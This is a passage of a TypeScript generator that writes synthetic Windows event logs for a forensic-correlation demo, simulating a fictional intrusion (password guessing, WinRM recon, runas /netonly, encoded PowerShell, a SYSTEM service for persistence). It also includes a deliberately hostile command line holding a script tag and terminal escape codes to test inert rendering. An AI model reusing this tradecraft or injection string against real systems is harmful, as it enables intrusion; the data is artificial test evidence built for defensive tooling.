    const net1 = s.spawn(net, s.after(t, 2_004), {
      image: 'C:\\Windows\\System32\\net1.exe',
      commandLine: 'C:\\Windows\\system32\\net1  use H: \\\\fs01.corp.example\\home\\asmith /persistent:no',
      label: MEDIUM,
    });
    const netDone = s.after(t, mapDriveOk ? 2_310 : 21_420);
    s.exit(net1, netDone, mapDriveOk ? '0x0' : '0x2');
    s.exit(net, s.after(netDone, 3), mapDriveOk ? '0x0' : '0x2');
    const psStart = s.after(netDone, 40);
    const ps = s.spawn(cmd, psStart, {
      image: POWERSHELL_EXE,
      commandLine: `powershell.exe -NoProfile -ExecutionPolicy Bypass -File ${INVENTORY_PATH}`,
      label: MEDIUM,
      ...(inventoryPid !== undefined ? { pid: inventoryPid } : {}),
    });
    const ready = s.psStartup(ps, s.after(psStart, 180));
    const block = s.scriptBlock(ps, s.after(ready, 60), INVENTORY_SCRIPT, INVENTORY_PATH);
    const psExit = s.exit(ps, s.after(ready, 1_130));
    s.exit(cmd, s.after(ready, 1_160));
    s.exit(conhost, s.after(ready, 1_175));
    s.exit(userinit, s.after(t, 31_000));
    if (!firstInventory) firstInventory = { proc: ps, exit: psExit, block };
    return explorer;
  };

  const explorer1 = interactiveLogon('08:02:11.406', '0x2b1f4a', 2, true, REUSED_PID);
  // asmith's working morning.
  {
    const outlook = s.spawn(explorer1, s.at('08:03:02.551'), {
      image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
      commandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ',
      label: MEDIUM,
    });
    outlookProc = outlook;
    const chrome = s.spawn(explorer1, s.at('08:05:40.118'), {
      image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      commandLine: '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" ',
      label: MEDIUM,
    });
    const teams = s.spawn(explorer1, s.at('08:06:12.904'), {
      image: 'C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe',
      commandLine: '"C:\\Program Files\\WindowsApps\\MSTeams_24033.811.2738.2546_x64__8wekyb3d8bbwe\\ms-teams.exe" msteams:system-initiated',
      label: MEDIUM,
    });
    const excel = s.spawn(explorer1, s.at('09:21:33.470'), {
      image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
      commandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "H:\\Budget\\Q1-2024.xlsx"',
      label: MEDIUM,
    });
    s.exit(excel, s.at('10:58:02.113'));
    s.exit(chrome, s.at('11:57:49.650'));
    s.exit(teams, s.at('11:57:50.010'));
    s.exit(outlook, s.at('11:57:50.388'));
    s.exit(explorer1, s.at('11:57:52.871'));
  }
  // A link clicked in Outlook whose command line carries markup and terminal control characters:
  // evidence is hostile, and every view must show it inert.
  const hostile = s.spawn(outlookProc, s.at('09:47:26.733'), {
    image: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    commandLine:
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --single-argument ' +
      'https://intranet.corp.example/search?q="><script>alert(1)</script>&x=\u001b[2J\u001b]0;pwned\u0007',
    label: MEDIUM,
  });
  s.exit(hostile, s.at('09:49:02.410'));

  // asmith logs off before lunch …
  s.security(WS01, s.at('11:57:48.902'), 4647, { version: 0, task: 12545 }, [
    ['TargetUserSid', USERS.asmith.sid],
    ['TargetUserName', USERS.asmith.name],
    ['TargetDomainName', USERS.asmith.domain],
    ['TargetLogonId', '0x2b1f4a'],
  ]);
  s.logoff(WS01, s.at('11:57:53.540'), USERS.asmith, '0x2b1f4a', 2);
  // … and back after it, with cached credentials while DC01 is being patched: the logon script
  // runs again, and the drive mapping fails (net.exe exit status 2).
  interactiveLogon('12:41:07.215', '0x3c80d1', 11, false);

  // --- The attack ------------------------------------------------------------------------------

  // Two password guesses from the internet-facing address, then jdoe's stolen password works.
  const failed: DemoEvent[] = [];
  for (const [clock, user, sub] of [
    ['10:19:52.318', 'administrator', '0xc000006a'],
    ['10:20:31.077', 'svc_backup', '0xc000006a'],
  ] as const) {
    failed.push(
      s.security(WS01, s.at(clock), 4625, { version: 0, task: 12544, failure: true, activity: true }, [
        ['SubjectUserSid', 'S-1-0-0'],
        ['SubjectUserName', '-'],
        ['SubjectDomainName', '-'],
        ['SubjectLogonId', '0x0'],
        ['TargetUserSid', 'S-1-0-0'],
        ['TargetUserName', user],
        ['TargetDomainName', 'CORP'],
        ['Status', '0xc000006d'],
        ['FailureReason', '%%2313'],
        ['SubStatus', sub],
        ['LogonType', '3'],
        ['LogonProcessName', 'NtLmSsp '],
        ['AuthenticationPackageName', 'NTLM'],
        ['WorkstationName', ATTACKER_WORKSTATION],
        ['TransmittedServices', '-'],
        ['LmPackageName', '-'],
        ['KeyLength', '0'],
        ['ProcessId', '0x0'],
        ['ProcessName', '-'],
        ['IpAddress', ATTACKER_IP],
        ['IpPort', String(s.int(49_200, 60_000))],
      ]),
    );
  }

  const ATTACK_LOGON = '0x5a3c1e';
  const NETONLY_LOGON = '0x5a4f02';
  const tLogon = s.at('10:21:37.902');
  const networkLogon = s.logon(WS01, tLogon, {
    target: USERS.jdoe,
    logonId: ATTACK_LOGON,
    logonType: 3,
    logonProcess: 'NtLmSsp ',
    authPackage: 'NTLM',
    workstation: ATTACKER_WORKSTATION,
    lmPackage: 'NTLM V2',
    keyLength: 128,
    ip: ATTACKER_IP,
    port: '51724',
    elevated: true,
  });
  const networkPrivs = s.specialPrivileges(WS01, s.after(tLogon, 0), USERS.jdoe, ATTACK_LOGON, ADMIN_PRIVILEGES);
  const jdoeNet = { account: USERS.jdoe, logonId: ATTACK_LOGON };

  // WinRM: DCOM activates the remote shell host in the network session.
  const wsm = s.spawn(dcomLaunch, s.at('10:21:38.417'), {
    image: 'C:\\Windows\\System32\\wsmprovhost.exe',
    commandLine: 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding',
    label: HIGH,
    as: jdoeNet,
  });
  s.psStartup(wsm, s.at('10:21:39.020'), false);
  const recon: Array<[string, string, string, string]> = [
    ['10:22:58.641', 'whoami /all', 'C:\\Windows\\System32\\whoami.exe', '"C:\\Windows\\system32\\whoami.exe" /all'],
    ['10:23:40.205', 'net localgroup administrators', 'C:\\Windows\\System32\\net.exe', '"C:\\Windows\\system32\\net.exe" localgroup administrators'],
  ];
  for (const [clock, typed, image, cmdLine] of recon) {
    const t = s.at(clock);
    s.scriptBlock(wsm, t, typed, '');
    const child = s.spawn(wsm, s.after(t, 95), { image, commandLine: cmdLine, label: HIGH });
    if (image.endsWith('net.exe')) {
      const n1 = s.spawn(child, s.after(t, 110), {
        image: 'C:\\Windows\\System32\\net1.exe',
        commandLine: 'C:\\Windows\\system32\\net1  localgroup administrators',
        label: HIGH,
      });
      s.exit(n1, s.after(t, 270));
    }
    s.exit(child, s.after(t, 290));
  }

  // runas /netonly in the same session: a NewCredentials logon whose subject is that session.
  const runasTyped = `runas /netonly /user:CORP\\svc_backup "cmd.exe /c ${PAYLOAD_COMMAND_LINE}"`;
  const tRunas = s.at('10:24:40.118');
  s.scriptBlock(wsm, tRunas, runasTyped, '');
  const runas = s.spawn(wsm, s.after(tRunas, 88), {
    image: 'C:\\Windows\\System32\\runas.exe',
    commandLine: `runas  /netonly /user:CORP\\svc_backup "cmd.exe /c ${PAYLOAD_COMMAND_LINE}"`,
    label: HIGH,
  });
  const tNetonly = s.at('10:24:51.306');
  const newCreds = s.logon(WS01, tNetonly, {
    subject: USERS.jdoe,
    subjectLogonId: ATTACK_LOGON,
    target: USERS.jdoe,
    logonId: NETONLY_LOGON,
    logonType: 9,
    logonProcess: 'seclogo',
    authPackage: 'Negotiate',
    workstation: '-',
    processId: seclogon.pid,
    processName: seclogon.image,
    ip: '::1',
    port: '0',
    elevated: true,
    outbound: USERS.svcBackup,
  });
  s.specialPrivileges(WS01, s.after(tNetonly, 0), USERS.jdoe, NETONLY_LOGON, ADMIN_PRIVILEGES);
  const jdoeNetonly = { account: USERS.jdoe, logonId: NETONLY_LOGON };

  // The secondary logon service starts cmd.exe with runas.exe as its parent and the new token.
  const cmd = s.spawn(runas, s.at('10:24:51.622'), {
    image: 'C:\\Windows\\System32\\cmd.exe',
    commandLine: `cmd.exe /c ${PAYLOAD_COMMAND_LINE}`,
    label: HIGH,
    as: jdoeNetonly,
  });
  const cmdConhost = s.spawn(cmd, s.at('10:24:51.640'), {
    image: 'C:\\Windows\\System32\\conhost.exe',
    commandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    label: HIGH,
  });
  s.exit(runas, s.at('10:24:51.701'));

  const tPs = s.at('10:24:52.075');
  const ps = s.spawn(cmd, tPs, { image: POWERSHELL_EXE, commandLine: PAYLOAD_COMMAND_LINE, label: HIGH, pid: REUSED_PID });
  const psReady = s.psStartup(ps, s.after(tPs, 240));
  const block = s.scriptBlock(ps, s.after(psReady, 35), DEMO_PAYLOAD_SCRIPT, '', 3);
  const upd = s.spawn(ps, s.at('10:24:55.318'), {
    image: SECOND_STAGE,
    commandLine: `"${SECOND_STAGE}" `,
    label: HIGH,
  });
  s.exit(ps, s.at('10:24:55.402'));
  s.exit(cmd, s.at('10:24:55.419'));
  s.exit(cmdConhost, s.at('10:24:55.433'));

  // upd.exe uses the netonly credentials (svc_backup) against the file server …
  const FS_BACKUP_LOGON = '0x1d7a9c3';
  const tFs = s.at('10:25:12.884');
  s.logon(FS01, tFs, {
    target: USERS.svcBackup,
    logonId: FS_BACKUP_LOGON,
    logonType: 3,
    logonProcess: 'Kerberos',
    authPackage: 'Kerberos',
    workstation: '-',
    logonGuid: '{' + s.guid() + '}',
    ip: WS01.ip,
    port: '50114',
    elevated: true,
  });
  s.specialPrivileges(FS01, s.after(tFs, 0), USERS.svcBackup, FS_BACKUP_LOGON, ADMIN_PRIVILEGES);
  const share = s.security(FS01, s.after(tFs, 6), 5140, { version: 1, task: 12808 }, [
    ['SubjectUserSid', USERS.svcBackup.sid],
    ['SubjectUserName', USERS.svcBackup.name],
    ['SubjectDomainName', USERS.svcBackup.domain],
    ['SubjectLogonId', FS_BACKUP_LOGON],
    ['ObjectType', 'File'],
    ['IpAddress', WS01.ip],
    ['IpPort', '50114'],
    ['ShareName', '\\\\*\\Backups'],
    ['ShareLocalPath', '\\??\\D:\\Shares\\Backups'],
    ['AccessMask', '0x1'],
    ['AccessList', '%%4416\n\t\t\t\t'],
  ]);
  s.logoff(FS01, s.at('10:41:03.517'), USERS.svcBackup, FS_BACKUP_LOGON, 3);

  // … and installs itself as an auto-start service.
  const tSvc = s.at('10:25:31.093');
  const sec4697 = s.security(WS01, tSvc, 4697, { version: 0, task: 12289 }, [
    ['SubjectUserSid', USERS.jdoe.sid],
    ['SubjectUserName', USERS.jdoe.name],
    ['SubjectDomainName', USERS.jdoe.domain],
    ['SubjectLogonId', NETONLY_LOGON],
    ['ServiceName', SERVICE_NAME],
    ['ServiceFileName', SERVICE_IMAGE],
    ['ServiceType', '0x10'],
    ['ServiceStartType', '2'],
    ['ServiceAccount', 'LocalSystem'],
  ]);
  const sys7045 = s.scm(WS01, s.after(tSvc, 2), 7045, { qualifiers: 16384, level: 4, userSid: USERS.jdoe.sid }, [
    ['ServiceName', SERVICE_NAME],
    ['ImagePath', SERVICE_IMAGE],
    ['ServiceType', 'user mode service'],
    ['StartType', 'auto start'],
    ['AccountName', 'LocalSystem'],
  ]);
  // Started at once: services.exe runs cmd.exe as SYSTEM, which starts upd.exe again; cmd.exe is
  // no service, so the SCM gives up after 30 s — but upd.exe keeps running as SYSTEM.
  const tSvcStart = s.at('10:25:32.410');
  s.serviceLogon(WS01, tSvcStart);
  const svcCmd = s.spawn(services, s.after(tSvcStart, 9), {
    image: 'C:\\Windows\\System32\\cmd.exe',
    commandLine: `C:\\Windows\\system32\\cmd.exe /c ${SECOND_STAGE}`,
    label: SYSTEM_LABEL,
  });
  const svcUpd = s.spawn(svcCmd, s.after(tSvcStart, 61), { image: SECOND_STAGE, commandLine: SECOND_STAGE, label: SYSTEM_LABEL });
  s.scm(WS01, s.at('10:26:02.433'), 7009, { qualifiers: 49152, level: 2 }, [
    ['param1', '30000'],
    ['param2', SERVICE_NAME],
  ]);
  s.scm(WS01, s.at('10:26:02.436'), 7000, { qualifiers: 49152, level: 2 }, [
    ['param1', SERVICE_NAME],
    ['param2', '%%1053'],
  ]);

  // The attacker leaves the WinRM shell.
  s.exit(wsm, s.at('10:47:13.208'));
  const attackerLogoff = s.logoff(WS01, s.at('10:47:13.530'), USERS.jdoe, ATTACK_LOGON, 3);

  // --- FS01: a little noise -------------------------------------------------------------------

  const ASMITH_FS_LOGON = '0x1c2e07a';
  const tMap = s.at('08:02:13.560');
  s.logon(FS01, tMap, {
    target: USERS.asmith,
    logonId: ASMITH_FS_LOGON,
    logonType: 3,
    logonProcess: 'Kerberos',
    authPackage: 'Kerberos',
    workstation: '-',
    logonGuid: '{' + s.guid() + '}',
    ip: WS01.ip,
    port: '49877',
    elevated: false,
  });
  s.security(FS01, s.after(tMap, 4), 5140, { version: 1, task: 12808 }, [
    ['SubjectUserSid', USERS.asmith.sid],
    ['SubjectUserName', USERS.asmith.name],
    ['SubjectDomainName', USERS.asmith.domain],
    ['SubjectLogonId', ASMITH_FS_LOGON],
    ['ObjectType', 'File'],
    ['IpAddress', WS01.ip],
    ['IpPort', '49877'],
    ['ShareName', '\\\\*\\home'],
    ['ShareLocalPath', '\\??\\D:\\Shares\\home'],
    ['AccessMask', '0x1'],
    ['AccessList', '%%4416\n\t\t\t\t'],
  ]);
  s.logoff(FS01, s.at('11:57:54.102'), USERS.asmith, ASMITH_FS_LOGON, 3);
  // The backup server's routine checks, from where svc_backup normally logs on.
  for (const clock of ['09:00:04.311', '12:00:03.980']) {
    const t = s.at(clock);
    const logonId = hex(s.int(0x1a00000, 0x1ffffff));
    s.logon(FS01, t, {
      target: USERS.svcBackup,
      logonId,
      logonType: 3,
      logonProcess: 'Kerberos',
      authPackage: 'Kerberos',
      workstation: '-',
      logonGuid: '{' + s.guid() + '}',
      ip: '10.0.1.40',
      port: String(s.int(49_700, 65_000)),
      elevated: true,
    });
    s.specialPrivileges(FS01, s.after(t, 0), USERS.svcBackup, logonId, ADMIN_PRIVILEGES);
    s.logoff(FS01, s.after(t, s.int(5_000, 9_000)), USERS.svcBackup, logonId, 3);
  }
  for (const clock of ['08:44:10.020', '10:44:09.870', '12:44:10.115']) {
    const t = s.at(clock);
    s.serviceLogon(FS01, t);
    const p = s.spawn(fsServices, s.after(t, 7), {
      image: 'C:\\Windows\\System32\\sppsvc.exe',
      commandLine: 'C:\\Windows\\system32\\sppsvc.exe',
      label: SYSTEM_LABEL,
      as: { account: FS01.networkService, logonId: '0x3e4' },
    });
    s.serviceState(FS01, s.after(t, 40), 'Software Protection', 'sppsvc', 'running');
    const stop = s.after(t, 30_500);
    s.serviceState(FS01, stop, 'Software Protection', 'sppsvc', 'stopped');
    s.exit(p, s.after(stop, 20));
  }

  const story = (): DemoStory => {
    if (!firstInventory) throw new Error('the first logon script did not run');
    return {
      attackerIp: ATTACKER_IP,
      failedLogons: failed.map(ref),
      networkLogon: { ...ref(networkLogon), logonId: ATTACK_LOGON, user: 'CORP\\jdoe' },
      networkLogonPrivileges: ref(networkPrivs),
      wsmprovhost: { ...ref(wsm.start), pid: wsm.pid },
      runas: { ...ref(runas.start), pid: runas.pid },
      newCredentialsLogon: {
        ...ref(newCreds),
        logonId: NETONLY_LOGON,
        subjectLogonId: dataOf(newCreds, 'SubjectLogonId'),
        outboundUser: 'CORP\\svc_backup',
      },
      cmd: { ...ref(cmd.start), pid: cmd.pid },
      powershell: { ...ref(ps.start), pid: ps.pid, parentPid: cmd.pid, commandLine: PAYLOAD_COMMAND_LINE },
      scriptBlock: { ...ref(block), pid: ps.pid, scriptBlockId: dataOf(block, 'ScriptBlockId'), text: DEMO_PAYLOAD_SCRIPT },
      secondStage: { ...ref(upd.start), pid: upd.pid, parentPid: ps.pid, image: SECOND_STAGE },
      serviceInstallSecurity: { ...ref(sec4697), subjectLogonId: NETONLY_LOGON, serviceName: SERVICE_NAME },
      serviceInstallSystem: { ...ref(sys7045), serviceName: SERVICE_NAME, imagePath: SERVICE_IMAGE },
      serviceStartCmd: { ...ref(svcCmd.start), pid: svcCmd.pid },
      serviceSecondStage: { ...ref(svcUpd.start), pid: svcUpd.pid },
      shareAccess: { ...ref(share), logonId: FS_BACKUP_LOGON },
      attackerLogoff: ref(attackerLogoff),
      reusedPid: {
        pid: REUSED_PID,
        earlierStart: ref(firstInventory.proc.start),
        earlierExit: ref(firstInventory.exit),
        earlierScriptBlock: ref(firstInventory.block),
        laterStart: ref(ps.start),
      },
      hostileCommandLine: { ...ref(hostile.start), pid: hostile.pid },
      userLogons: userLogons.map((e) => ({ ...ref(e), logonId: dataOf(e, 'TargetLogonId'), logonType: Number(dataOf(e, 'LogonType')) })),
    };
  };

  return { events: s.events, story };
}

// ---------------------------------------------------------------------------------------------
// Layout and output

/** Sorts each log by time and numbers its records, as the event log service would have. */
function layout(events: readonly DemoEvent[]): Map<string, DemoEvent[]> {
  const byLog = new Map<string, DemoEvent[]>();
  for (const e of events) {
    const key = `${e.host.short}/${e.log}`;
    let list = byLog.get(key);
    if (!list) byLog.set(key, (list = []));
    list.push(e);
  }
  for (const [key, list] of byLog) {
    list.sort((a, b) => (a.ticks < b.ticks ? -1 : a.ticks > b.ticks ? 1 : a.seq - b.seq));
    const first = FIRST_RECORD_ID[key];
    if (first === undefined) throw new Error(`no first record id for ${key}`);
    list.forEach((e, i) => (e.recordId = first + i));
  }
  return byLog;
}

function storyMarkdown(story: DemoStory, counts: ReadonlyMap<string, number>): string {
  const r = (x: StoryRecord): string => `${x.host} ${x.log} #${x.recordId} (${x.eventId}, ${x.time})`;
  const pid = (n: number): string => `${n} (0x${n.toString(16)})`;
  const lines: string[] = [];
  lines.push('# The demo case: what happened on WS01');
  lines.push('');
  lines.push('Generated by `scripts/make-demo.ts` (do not edit by hand; rerun `npx tsc -p tsconfig.node.json && node dist/node/scripts/make-demo.js`).');
  lines.push('All times are UTC on 2024-03-12. Record ids are `EventRecordID` within their host and log. PIDs are given decimal and hex');
  lines.push('(4688/4689 write hex; PowerShell `Execution/@ProcessID` writes decimal). The files are `wevtutil qe <log> /f:xml` style:');
  lines.push('one `<Event>` per line, single-quoted attributes, no root element, CRLF line ends.');
  lines.push('');
  lines.push('| file | events |');
  lines.push('|---|---|');
  for (const [file, n] of counts) lines.push(`| ${file} | ${n} |`);
  lines.push('');
  lines.push('## The attack chain');
  lines.push('');
  lines.push(`0. Password guessing from ${story.attackerIp}: ${story.failedLogons.map(r).join('; ')} (4625, NTLM, workstation \`${ATTACKER_WORKSTATION}\`).`);
  lines.push(
    `1. **Network logon** ${r(story.networkLogon)}: ${story.networkLogon.user}, LogonType 3, NTLM (NTLM V2), from ${story.attackerIp} port 51724, ` +
      `WorkstationName \`${ATTACKER_WORKSTATION}\`, TargetLogonId **${story.networkLogon.logonId}**. ` +
      `Special privileges (admin) ${r(story.networkLogonPrivileges)} with SubjectLogonId ${story.networkLogon.logonId}.`,
  );
  lines.push(
    `   WinRM: ${r(story.wsmprovhost)} \`wsmprovhost.exe -Embedding\`, PID ${pid(story.wsmprovhost.pid)}, parent svchost.exe (DcomLaunch, PID 936 / 0x3a8, running since boot); ` +
      `SubjectLogonId 0x3e7 (SYSTEM creates it), TargetLogonId ${story.networkLogon.logonId} (the session it runs in). ` +
      'It runs `whoami /all` and `net localgroup administrators` (4104 script blocks in its PID, 4688/4689 children).',
  );
  lines.push(
    `2. **runas /netonly in the same session**: ${r(story.runas)} runas.exe, PID ${pid(story.runas.pid)}, parent wsmprovhost.exe, SubjectLogonId ${story.networkLogon.logonId}. ` +
      `Then ${r(story.newCredentialsLogon)}: LogonType 9, LogonProcessName \`seclogo\`, SubjectLogonId **${story.newCredentialsLogon.subjectLogonId}** (= step 1), ` +
      `TargetLogonId **${story.newCredentialsLogon.logonId}**, TargetOutboundUserName/DomainName = ${story.newCredentialsLogon.outboundUser}, ProcessName svchost.exe (seclogon, PID 1220 / 0x4c4), IpAddress ::1. Its 4672 follows.`,
  );
  lines.push(
    `   ${r(story.cmd)} cmd.exe, PID ${pid(story.cmd.pid)}, parent runas.exe (PID ${pid(story.runas.pid)}), SubjectLogonId ${story.networkLogon.logonId}, TargetLogonId ${story.newCredentialsLogon.logonId} ` +
      '(the secondary logon service gives it the new token; its effective logon is the TargetLogonId).',
  );
  lines.push(
    `3. **Encoded PowerShell** ${r(story.powershell)}: PID ${pid(story.powershell.pid)}, parent cmd.exe PID ${pid(story.powershell.parentPid)}, ` +
      `SubjectLogonId ${story.newCredentialsLogon.logonId}, TokenElevationType %%1936, MandatoryLabel S-1-16-12288. CommandLine:`,
  );
  lines.push('');
  lines.push('   ```');
  lines.push(`   ${story.powershell.commandLine}`);
  lines.push('   ```');
  lines.push('');
  lines.push(
    `4. **Script block** ${r(story.scriptBlock)}: Execution ProcessID ${story.scriptBlock.pid}, Level 3 (warning), MessageNumber 1 of 1, ScriptBlockId ${story.scriptBlock.scriptBlockId}, Path empty. ` +
      'ScriptBlockText is the -enc payload decoded (base64 → UTF-16LE):',
  );
  lines.push('');
  lines.push('   ```powershell');
  lines.push(`   ${story.scriptBlock.text}`);
  lines.push('   ```');
  lines.push('');
  lines.push(
    `5. **Second stage from %TEMP%** ${r(story.secondStage)}: \`${story.secondStage.image}\`, PID ${pid(story.secondStage.pid)}, parent powershell.exe PID ${pid(story.secondStage.parentPid)}, ` +
      `SubjectLogonId ${story.newCredentialsLogon.logonId}. PowerShell, cmd.exe and conhost.exe exit right after. upd.exe keeps running (no 4689).`,
  );
  lines.push(
    `   With the netonly credentials it reaches the file server: FS01 4624 type 3 CORP\\svc_backup (Kerberos) from 10.0.1.51 (WS01), TargetLogonId ${story.shareAccess.logonId}, ` +
      `and ${r(story.shareAccess)} share \`\\\\*\\Backups\`. svc_backup normally comes from 10.0.1.40 (BKP01).`,
  );
  lines.push(
    `6. **Service install** ${r(story.serviceInstallSecurity)}: 4697 ServiceName \`${story.serviceInstallSecurity.serviceName}\`, SubjectLogonId **${story.serviceInstallSecurity.subjectLogonId}** (the netonly session of step 2), ` +
      `ServiceStartType 2, ServiceAccount LocalSystem; and ${r(story.serviceInstallSystem)}: 7045, ImagePath \`${story.serviceInstallSystem.imagePath}\`, ` +
      'ServiceType `user mode service`, StartType `auto start`, AccountName `LocalSystem`, Security/@UserID = jdoe.',
  );
  lines.push(
    `   The service starts at once: ${r(story.serviceStartCmd)} cmd.exe PID ${pid(story.serviceStartCmd.pid)} from services.exe (PID 684 / 0x2ac) as SYSTEM (LogonId 0x3e7), ` +
      `then ${r(story.serviceSecondStage)} upd.exe PID ${pid(story.serviceSecondStage.pid)} as SYSTEM. System 7009 (30 s timeout) and 7000 (%%1053) follow; upd.exe stays.`,
  );
  lines.push(`7. The attacker leaves: wsmprovhost.exe exits (4689) and ${r(story.attackerLogoff)} logs off ${story.networkLogon.logonId}.`);
  lines.push('');
  lines.push('Chain by LogonId: 0x5a3c1e (type 3, 203.0.113.47) → 4624 type 9 SubjectLogonId 0x5a3c1e → 0x5a4f02 → cmd.exe → powershell.exe → upd.exe, 4697.');
  lines.push('');
  lines.push('## Traps for correlation');
  lines.push('');
  const ru = story.reusedPid;
  lines.push(
    `- **Reused PID ${pid(ru.pid)}**: first the benign logon-script powershell.exe (inventory.ps1), ${r(ru.earlierStart)}, which writes a benign 4104 ${r(ru.earlierScriptBlock)} ` +
      `(Execution ProcessID ${ru.pid}) and exits ${r(ru.earlierExit)}. Hours later the attacker's powershell.exe gets the same PID: ${r(ru.laterStart)}. ` +
      'Both processes also write 40961/53504/40962 in PowerShell/Operational with ProcessID 7996. Attribute by PID *and* time.',
  );
  lines.push(
    `- **Hostile content** ${r(story.hostileCommandLine)}: chrome.exe (PID ${pid(story.hostileCommandLine.pid)}) opened from OUTLOOK.EXE by asmith, whose CommandLine holds ` +
      '`<script>alert(1)</script>`, ESC sequences (`\\x1b[2J`, `\\x1b]0;pwned`) and a BEL (`\\x07`) as raw characters. Unrelated to the attack; must render inert.',
  );
  lines.push('- The SCCM account (svc_sccm) logs on over the network with admin rights every hour (type 3 + 4672, Kerberos, from 10.0.1.30): looks like step 1, is not.');
  lines.push('');
  lines.push('## Benign noise');
  lines.push('');
  const ul = story.userLogons;
  lines.push(
    `- asmith's interactive logons: ${ul.map((u) => `${r(u)} type ${u.logonType}, LogonId ${u.logonId}`).join('; ')}. ` +
      'Each runs userinit.exe → cmd.exe `/c "\\\\corp.example\\NETLOGON\\logon.bat"` → conhost.exe, `net use H: …` → net1.exe, and powershell.exe `-File \\\\corp.example\\NETLOGON\\inventory.ps1` (benign 4104). ' +
      'The first maps H: on FS01 (FS01 4624 type 3 + 5140 `\\\\*\\home`); the second (cached, DC01 down) fails: net.exe exit status 0x2. asmith logs off at 11:57:53 (4647, 4634).',
  );
  lines.push('- Outlook, Chrome, Teams and Excel started from explorer.exe during the morning, exited at logoff.');
  lines.push('- GoogleUpdate.exe `/ua /installsource scheduler` as SYSTEM from the Task Scheduler svchost.exe (PID 1200 / 0x4b0) hourly at :14; Defender MpCmdRun signature update at 09:52.');
  lines.push('- Services started by services.exe (svchost.exe -k … BITS, UsoSvc, fdPHost, ClipSVC; sppsvc.exe; TrustedInstaller.exe) with 4624 type 5 / 4672 for SYSTEM, 7036 running/stopped, 4689 on stop.');
  lines.push('- FS01: svc_backup checks from 10.0.1.40 at 09:00 and 12:00; sppsvc starts and stops.');
  lines.push('');
  return lines.join('\n');
}

export interface DemoResult {
  readonly files: readonly string[];
  readonly eventCount: number;
  readonly story: DemoStory;
}

/** Writes the demo evidence and STORY.md into `dir` (created if missing). Deterministic. */
export function writeDemoEvidence(dir: string): DemoResult {
  const built = buildScenario();
  const byLog = layout(built.events);
  mkdirSync(dir, { recursive: true });
  const files: string[] = [];
  const counts = new Map<string, number>();
  const order = ['WS01/Security', 'WS01/System', 'WS01/PowerShell-Operational', 'FS01/Security', 'FS01/System'];
  for (const key of order) {
    const list = byLog.get(key);
    if (!list) continue;
    const [hostName, log] = key.split('/') as [string, LogName];
    const file = `${hostName}-${LOG_FILE_SUFFIX[log]}.xml`;
    writeFileSync(join(dir, file), list.map((e) => renderEvent(e) + '\r\n').join(''), 'utf8');
    files.push(file);
    counts.set(file, list.length);
  }
  const story = built.story();
  writeFileSync(join(dir, 'STORY.md'), storyMarkdown(story, counts), 'utf8');
  return { files, eventCount: built.events.length, story };
}

/** The repository root: the nearest folder above this file whose package.json is Chainline's. */
export function findRepoRoot(from: string = dirname(fileURLToPath(import.meta.url))): string {
  let dir = from;
  for (;;) {
    const pkg = join(dir, 'package.json');
    if (existsSync(pkg)) {
      try {
        if ((JSON.parse(readFileSync(pkg, 'utf8')) as { name?: unknown }).name === 'chainline') return dir;
      } catch {
        // not ours; keep walking up
      }
    }
    const up = dirname(dir);
    if (up === dir) throw new Error(`no chainline package.json above ${from}`);
    dir = up;
  }
}

function isMain(): boolean {
  const entry = process.argv[1];
  if (!entry) return false;
  try {
    return realpathSync(resolve(entry)) === realpathSync(fileURLToPath(import.meta.url));
  } catch {
    return false;
  }
}

if (isMain()) {
  const out = join(findRepoRoot(), 'assets', 'demo');
  const result = writeDemoEvidence(out);
  console.log(`wrote ${result.eventCount} events in ${result.files.length} files and STORY.md to ${out}`);
}
